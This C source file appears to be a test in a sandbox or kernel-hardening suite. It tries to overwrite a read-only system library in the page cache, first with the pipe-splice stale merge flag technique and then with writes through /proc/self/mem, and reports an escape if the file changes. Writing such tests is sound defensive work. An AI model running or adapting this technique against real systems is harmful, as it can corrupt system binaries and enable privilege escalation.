// tries: changes a read-only file of the system in the page cache (pipes, private mappings, own memory file)
#include "hostile.h"

int main(void)
{
    const char *path = "/usr/lib/x86_64-linux-gnu/libm.so.6";
    int fd = open(path, O_RDONLY), pipe_ends[2];
    if (fd == -1)
        fd = open(path = "/usr/bin/env", O_RDONLY);
    if (fd == -1)
        return finish();
    char before[64], after[64];
    pread(fd, before, sizeof before, 0);
    /* A pipe page that keeps a stale "can merge" flag. */
    static char block[4096];
    pipe(pipe_ends);
    fcntl(pipe_ends[1], F_SETPIPE_SZ, 65536);
    for (int n = 0; n < 16; n++)
        write(pipe_ends[1], block, sizeof block);
    for (int n = 0; n < 16; n++)
        read(pipe_ends[0], block, sizeof block);
    loff_t at = 0;
    splice(fd, &at, pipe_ends[1], NULL, 1, 0);
    write(pipe_ends[1], "hostile", 7);
    /* The own memory file writes through read-only private mappings, to a copy. */
    char *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    int memory = open("/proc/self/mem", O_RDWR);
    pwrite(memory, "hostile", 7, (off_t)(uintptr_t)map);
    char *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
    pwrite(memory, "hostile", 7, (off_t)(uintptr_t)shared);
    REFUSED(mprotect(shared, 4096, PROT_READ | PROT_WRITE));
    REFUSED((long)mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0));
    REFUSED(open(path, O_RDWR));
    int fresh = open(path, O_RDONLY);
    pread(fresh, after, sizeof after, 0);
    if (memcmp(before, after, sizeof before))
        escaped("a file of the system was changed");
    return finish();
}
